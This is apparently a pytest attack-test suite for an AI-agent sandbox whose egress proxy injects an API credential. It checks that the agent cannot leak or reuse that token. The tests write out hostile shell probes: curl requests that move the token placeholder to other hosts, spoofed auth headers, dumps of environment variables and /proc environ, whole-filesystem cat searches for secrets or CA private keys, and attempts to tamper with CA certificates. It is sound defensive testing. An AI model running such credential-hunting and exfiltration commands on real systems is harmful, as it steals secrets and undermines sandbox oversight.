"""C1-C7: stealing or misusing the credential that egress adds."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from bot_bottle.verify.credentials import MEMORY
from tests.attacks import inside
from tests.attacks.conftest import TOKEN_REF
from tests.support.family import Family
from tests.support.outside import new_marker

if TYPE_CHECKING:
    from tests.support.lab import Lab, RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

C1 = {
    "authorization": '-H "Authorization: Bearer $API_TOKEN"',
    "basic": '-u "me:$API_TOKEN"',
    "other-header": '-H "X-Anything: $API_TOKEN"',
    "cookie": '-H "Cookie: a=$API_TOKEN"',
    "query": '-G --data-urlencode "key=$API_TOKEN"',
    "path": "",
    "referer": '-H "Referer: https://api.test/?key=$API_TOKEN"',
    "hex": """-H "X-Hex: $(printf %s "$API_TOKEN" | od -An -tx1 | tr -d ' \\n')" """,
}


def test_c1_c2_a_placeholder_goes_to_its_own_host_or_nowhere(
    bottle: RunningBottle, world: World, token: str
) -> None:
    marks = {name: new_marker("c1") for name in C1}
    paths = {name: f"{mark}/$API_TOKEN" if name == "path" else mark for name, mark in marks.items()}
    for host in ("allowed.test", "api.test"):
        script = [f'curl -sS -m 5 {C1[name]} "https://{host}/{paths[name]}"; echo' for name in C1]
        answers = bottle.sh("\n".join(script), timeout=60).out
        if host == "allowed.test":
            assert answers.count('"placeholder_misplaced"') == len(C1)
            assert TOKEN_REF in answers
        else:
            assert answers.count('"host": "api.test"') == len(C1)
    requests = world.records().requests
    for name, marker in marks.items():
        (line,) = bottle.denied(marker)
        assert (line["reason"], line["host"]) == ("placeholder_misplaced", "allowed.test"), name
        (seen,) = [seen for seen in requests if marker in seen.target]
        assert seen.host == "api.test", name
        assert seen.values("authorization") == [f"Bearer {token}"]
        # It stands for nothing where it was written: only the route's own header is added.
        assert seen.raw.count(token.encode()) == 1, name


C3 = ["plain", "moved", "encoded", "pieces", "gzip", "unknown"]


@pytest.mark.parametrize("host", ["echo.test", "query.test"])
def test_c3_an_echo_never_shows_the_token(bottle: RunningBottle, world: World, token: str, host: str) -> None:
    marker = new_marker("c3")
    urls = " ".join(f"https://{host}/{kind}/{marker}?key=mine" for kind in C3)
    got = bottle.sh(
        f"curl -sS -i -m 5 -H 'Cookie: mine=1' -H 'Accept-Encoding: gzip, br' -H 'Range: bytes=0-9' {urls};"
        f" curl -sS -i -m 5 -X TRACE https://{host}/{marker}"
    )
    seen = [seen for seen in world.records().requests if marker in seen.target]
    assert len(seen) == len(C3)
    assert all(one.raw.count(token.encode()) == 1 for one in seen)
    assert all(b"key=mine" in one.raw for one in seen) is (host == "echo.test")
    assert all(b"mine=1" in one.raw for one in seen) is (host == "echo.test")
    everything = got.stdout + got.stderr
    value = token.encode()
    forms = (value, base64.b64encode(value)[4:-4], value.hex().encode(), value[::-1], value[7:])
    assert [form for form in forms if form in everything] == []
    assert everything.count(b"*" * len(value)) >= len(C3) - 1
    assert b"response_unreadable" in everything
    assert b"egress.no_trace" in everything
    (line,) = [line for line in bottle.denied(marker) if line["reason"] == "response_unreadable"]
    assert line["host"] == host
    assert token not in bottle.audit_path.read_text()


def test_c3_a_token_in_a_query_is_on_no_record_and_follows_no_redirect(
    bottle: RunningBottle, world: World, token: str
) -> None:
    marker = new_marker("c3")
    bottle.sh(f"curl -sS -L -m 5 -e ';auto' https://query.test/moved/{marker}")
    seen = [seen for seen in world.records().requests if marker in seen.target]
    assert [one.host for one in seen] == ["query.test", "allowed.test"]
    assert token.encode() in seen[0].raw
    assert token.encode() not in seen[1].raw
    for line in bottle.decisions(marker):
        assert "?" not in line["path"]
    assert token not in bottle.audit_path.read_text() + bottle.log.read_text()


C4 = {
    "none-of-its-own": "",
    "own-bearer": "-H 'Authorization: Bearer attacker'",
    "own-basic": "-u attacker:attacker",
    "lower-case": "-H 'authorization: Bearer attacker'",
    "two": "-H 'Authorization: Bearer attacker' -H 'Authorization: Basic YTpi'",
    "api-key": "-H 'x-api-key: attacker'",
    "api-key-and-bearer": "-H 'X-Api-Key: attacker' -H 'Authorization: Bearer attacker'",
    "google-key": "-H 'x-goog-api-key: attacker'",
    "gitlab-token": "-H 'PRIVATE-TOKEN: attacker'",
    "proxy-authorization": "-H 'Proxy-Authorization: Basic YXR0YWNrZXI='",
    "named-by-connection": "-H 'Connection: Authorization, X-Api-Key' -H 'X-Api-Key: attacker'",
    "underscore": "-H 'x_api_key: attacker'",
    "placeholder": '-H "Authorization: Bearer $API_TOKEN"',
}


def test_c4_only_the_routes_own_credential_leaves(bottle: RunningBottle, world: World, token: str) -> None:
    markers = {name: new_marker("c4") for name in C4}
    tries = (f"curl -sS -m 5 {C4[name]} https://api.test/{marker}" for name, marker in markers.items())
    bottle.sh("\n".join(tries), timeout=60)
    requests = world.records().requests
    for name, marker in markers.items():
        (seen,) = [seen for seen in requests if marker in seen.target]
        assert seen.values("authorization") == [f"Bearer {token}"], name
        assert b"attacker" not in seen.raw, name
        assert b"YXR0YWNrZXI=" not in seen.raw, name
        assert b"placeholder-only" not in seen.raw, name
        (line,) = bottle.decisions(marker)
        assert line["injected"] == TOKEN_REF, name


def test_c4_a_host_without_a_credential_gets_none(bottle: RunningBottle, world: World, token: str) -> None:
    marker = new_marker("c4")
    bottle.sh(f"curl -sS -m 5 -H 'Authorization: Bearer attacker' https://allowed.test/{marker}")
    (seen,) = [seen for seen in world.records().requests if marker in seen.target]
    assert seen.values("authorization") == []
    assert token.encode() not in seen.raw


@pytest.mark.parametrize("authority", ["api.test:80", "api.test:443"])
def test_c5_nothing_is_injected_into_plain_http_in_a_tunnel(
    bottle: RunningBottle, world: World, token: str, authority: str
) -> None:
    marker = new_marker("c5")
    code = """
try:
    sock, answer = connect(authority)
    inner = ask(sock, f"GET /{marker} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
except OSError as error:
    inner = "error: " + str(error)
tell(answer=inner)
"""
    answer = inside.run(bottle, code, authority=authority, marker=marker)["answer"]
    assert inside.status(answer) != 200
    assert world.reached(marker) == []


@pytest.mark.parametrize("url", ["http://api.test/{m}", "http://api.test:443/{m}"])
def test_c5_nothing_is_injected_into_plain_http_by_the_proxy(
    bottle: RunningBottle, world: World, token: str, url: str
) -> None:
    marker = new_marker("c5")
    assert bottle.sh(f"curl -sS -m 5 {url.format(m=marker)}").json()["reason"] == "plaintext_credential"
    assert world.reached(marker) == []
    assert not any(
        token.encode() in seen.raw + seen.body for seen in world.records().requests if not seen.tls
    )


def test_c5_no_host_but_the_routes_own_ever_saw_the_token(
    bottle: RunningBottle, world: World, token: str
) -> None:
    marker = new_marker("c5")
    bottle.sh(
        f"curl -sS -m 5 https://api.test/{marker} https://allowed.test/{marker} https://x.wild.test/{marker}"
    )
    hosts = {seen.sni for seen in world.records().requests if token.encode() in seen.raw + seen.body}
    assert hosts - {"echo.test", "query.test", "streams.test"} == {"api.test"}  # all four are its own


def test_c6_the_token_is_nowhere_inside(bottle: RunningBottle, token: str) -> None:
    bottle.sh("curl -sS -m 5 https://api.test/warm-up")
    everything = bottle.sh(
        "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null;"
        " find / -xdev \\( -path /proc -o -path /usr \\) -prune -o -type f -exec cat {} + 2>/dev/null;"
        " find /home /tmp /run /etc /dev/shm -type f -exec cat {} + 2>/dev/null",
        timeout=60,
    )
    assert b"placeholder-only" in everything.stdout, "the search finds nothing, so it proves nothing"
    assert token.encode() not in everything.stdout + everything.stderr


def test_c6_the_token_is_in_no_memory_the_agent_can_read(bottle: RunningBottle, token: str) -> None:
    result = inside.run(bottle, MEMORY, first=token[:14], second=token[14:])
    assert result["read"] > 0
    assert result["found"] == []


def test_c6_the_token_is_nowhere_on_the_host_but_where_the_operator_put_it(
    lab: Lab, fresh: list[RunningBottle], token: str
) -> None:
    running = lab.launch("attack", env={TOKEN_REF: token})
    fresh.append(running)
    running.sh("curl -sS -m 5 https://api.test/warm-up; curl -sS -m 5 http://api.test/$API_TOKEN")
    needle = token.encode()
    files = [path for path in lab.home.rglob("*") if path.is_file() and not path.is_symlink()]
    assert running.audit_path in files
    assert [path for path in files if needle in path.read_bytes()] == []
    assert needle not in running.log.read_bytes()
    with Family(lab, running.launcher_pid, running.identity) as family:
        processes = family.pids
    assert len(processes) >= (3 if lab.machine_image else 4)
    for pid in processes:
        assert needle not in _proc(pid, "cmdline"), _proc(pid, "cmdline")
        if pid != running.launcher_pid:  # the launcher has the operator's own environment
            assert needle not in _proc(pid, "environ"), _proc(pid, "cmdline")


def test_c6_the_sidecar_leaves_no_core_and_cannot_be_traced(
    lab: Lab, fresh: list[RunningBottle], token: str
) -> None:
    running = lab.launch("attack", env={TOKEN_REF: token})
    fresh.append(running)
    with Family(lab, running.launcher_pid, running.identity) as family:
        sidecar = family.sidecar()
    limits = _proc(sidecar, "limits").decode()
    core = next(line for line in limits.splitlines() if line.startswith("Max core file size"))
    assert core.split()[4:6] == ["0", "0"]
    # A process that is not dumpable belongs to root in /proc, whoever runs it (proc(5)).
    assert Path("/proc", str(sidecar), "mem").stat().st_uid == 0
    if lab.account.uid != 0:
        probe = lab.world.run(["cat", f"/proc/{sidecar}/environ"], account=lab.account)
        assert probe.returncode != 0


def test_c7_the_ca_key_is_nowhere_and_each_bottle_has_its_own_ca(
    lab: Lab, fresh: list[RunningBottle], token: str
) -> None:
    for _ in range(2):
        fresh.append(lab.launch("attack", env={TOKEN_REF: token}))
    prints = set()
    for running in fresh:
        searched = running.sh(
            "find / -xdev \\( -path /proc -o -path /usr \\) -prune -o -type f -exec cat {} + 2>/dev/null;"
            " find /home /tmp /run /etc -type f -exec cat {} + 2>/dev/null",
            timeout=60,
        )
        assert b"BEGIN CERTIFICATE" in searched.stdout
        assert b"PRIVATE KEY" not in searched.stdout
        files = [path for path in running.state_dir.rglob("*") if path.is_file() and not path.is_symlink()]
        assert [path for path in files if b"PRIVATE KEY" in path.read_bytes()] == []
        ca = running.sh('cat "$NODE_EXTRA_CA_CERTS"').stdout
        assert b"BEGIN CERTIFICATE" in ca
        prints.add(hashlib.sha256(ca).hexdigest())
    assert len(prints) == 2


def test_c7_the_ca_cannot_be_replaced_from_inside(bottle: RunningBottle) -> None:
    result = bottle.sh(
        'for file in "$NODE_EXTRA_CA_CERTS" "$SSL_CERT_FILE"; do'
        ' echo x > "$file"; rm -f "$file"; mv "$file" /tmp/; ln -sf /tmp/x "$file"; done;'
        ' test -s "$NODE_EXTRA_CA_CERTS" && test -s "$SSL_CERT_FILE" && echo untouched'
    )
    assert result.out.strip() == "untouched"


def _proc(pid: int, name: str) -> bytes:
    try:
        return Path("/proc", str(pid), name).read_bytes()
    except PermissionError:
        if os.getuid() == 0:
            raise
        return b""  # another account's, or not dumpable: nothing an ordinary user can read
